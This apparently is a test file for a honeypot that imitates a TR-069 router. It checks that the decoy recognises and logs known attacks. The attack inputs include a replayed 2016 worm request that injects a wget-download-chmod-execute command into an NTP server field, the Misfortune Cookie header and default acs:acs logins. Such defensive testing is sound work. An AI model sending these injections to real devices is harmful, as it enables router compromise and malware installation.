import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { needTools } from '../../../test/support/need.ts';
import { serveDecoy } from '../../../test/support/serve-decoy.ts';
import { holdsForAnyBytes, octetsOf, personaWith, talk } from '../../../test/support/talk.ts';
import { tr069 } from './tr069.ts';

const run = promisify(execFile);
const router = () =>
  personaWith(
    { tr069: { product: 'RomPager', version: '4.07', details: { realm: 'IGD', path: '/tr069' } } },
    'tplink-router',
  );
const post = (action: string, values: string): Uint8Array => {
  const body = `<?xml version="1.0"?><SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/"><SOAP-ENV:Body><u:${action} xmlns:u="urn:dslforum-org:service:Time:1">${values}</u:${action}></SOAP-ENV:Body></SOAP-ENV:Envelope>`;
  return octetsOf(
    `POST /UD/act?1 HTTP/1.1\r\nHost: 127.0.0.1:7547\r\nUser-Agent: Mozilla/4.0\r\nSOAPAction: urn:dslforum-org:service:Time:1#${action}\r\nContent-Type: text/xml\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
  );
};
/** As the worm of November 2016 sent it, to another address. */
const worm = post(
  'SetNTPServers',
  '<NewNTPServer1>`cd /tmp;wget http://203.0.113.7/1;chmod 777 1;./1`</NewNTPServer1><NewNTPServer2></NewNTPServer2>',
);
const get = (path: string, ...headers: string[]): Uint8Array =>
  octetsOf(`GET ${path} HTTP/1.1\r\nHost: a\r\n${headers.map((header) => `${header}\r\n`).join('')}\r\n`);

describe('the TR-069 decoy', () => {
  it('recognises the time servers’ injection, runs its command in the shell and finds the address', () => {
    const { facts, text } = talk(tr069, router(), [worm]);
    expect(text).toContain('<u:SetNTPServersResponse');
    expect(facts).toContainEqual(
      expect.objectContaining({ kind: 'exploit', name: 'tr064-ntp-server', cves: ['CVE-2016-10372'] }),
    );
    expect(facts.flatMap((fact) => (fact.kind === 'command' ? (fact.urls ?? []) : []))).toContain(
      'http://203.0.113.7/1',
    );
    expect(facts).toContainEqual(
      expect.objectContaining({ kind: 'request', path: '/UD/act?1', status: 200 }),
    );
  });

  it('answers other actions, and says which it lacks', () => {
    expect(talk(tr069, router(), [post('Nonsense', '')]).text).toContain('<errorCode>401</errorCode>');
    const info = octetsOf(
      Buffer.from(post('GetInfo', '')).toString('latin1').replaceAll(':Time:', ':DeviceInfo:'),
    );
    const longer = Buffer.from(info).toString('latin1');
    const body = longer.slice(longer.indexOf('<?xml'));
    const { text } = talk(tr069, router(), [
      octetsOf(longer.replace(/Content-Length: \d+/, `Content-Length: ${body.length}`)),
    ]);
    expect(text).toMatch(/<NewModelName>[^<]+<\/NewModelName>/);
  });

  it('shows the misfortune cookie as vulnerable versions do, and falls over for other indexes', () => {
    const { text, facts } = talk(tr069, router(), [get('/', 'Cookie: C107373883=/omg1337hax')]);
    expect(text).toContain('HTTP/1.1 404 Not Found');
    expect(text).toContain("The requested URL '/omg1337hax' was not found on the RomPager server.");
    expect(facts).toContainEqual(expect.objectContaining({ kind: 'exploit', cves: ['CVE-2014-9222'] }));
    expect(talk(tr069, router(), [get('/', 'Cookie: C107351277=BBBB')]).outputs.at(-1)).toEqual({
      do: 'close',
    });
  });

  it('challenges a connection request and records who knocks', () => {
    const { text, facts } = talk(tr069, router(), [
      get('/tr069'),
      get('/tr069', `Authorization: Basic ${Buffer.from('acs:acs').toString('base64')}`),
    ]);
    expect(text).toMatch(
      /401 Unauthorized\r\n.*WWW-Authenticate: Digest realm="IGD", nonce="[0-9a-f]{32}", qop="auth", algorithm="MD5"/s,
    );
    expect(facts).toContainEqual({
      kind: 'auth',
      service: 'tr069',
      user: 'acs',
      method: 'password',
      password: 'acs',
      accepted: false,
    });
  });

  it('gives the same for any split of any bytes', () => {
    holdsForAnyBytes(tr069, router, [
      worm,
      get('/'),
      get('/tr069'),
      get('/', 'Cookie: C107373883=/a'),
      post('SetNTPServers', '<NewNTPServer1>a;b</NewNTPServer1'),
      octetsOf('GARBAGE\r\n\r\n'),
    ]);
  });

  needTools(['curl'])('serves curl with a digest', async () => {
    const persona = router();
    const [user, password] = persona.login.accepted[0] ?? ['', ''];
    await using served = await serveDecoy(tr069, persona);
    const { stdout } = await run('curl', [
      '-s',
      '-i',
      '--digest',
      '-u',
      `${user}:${password}`,
      `http://127.0.0.1:${served.port}/tr069`,
    ]);
    expect(stdout).toContain('HTTP/1.1 200 OK');
    expect(served.facts).toContainEqual({
      kind: 'auth',
      service: 'tr069',
      user,
      method: 'other',
      password,
      accepted: true,
    });
    expect(served.errors).toEqual([]);
  });

  needTools(['nmap'])('is vulnerable to nmap’s check of the misfortune cookie', async () => {
    await using served = await serveDecoy(tr069, router());
    const { stdout } = await run('nmap', [
      '-Pn',
      '-n',
      '-p',
      String(served.port),
      '--script',
      '+http-vuln-misfortune-cookie',
      '127.0.0.1',
    ]);
    expect(stdout).toContain('VULNERABLE');
    expect(stdout).toContain('CVE-2014-9222');
    expect(served.errors).toEqual([]);
  });
});
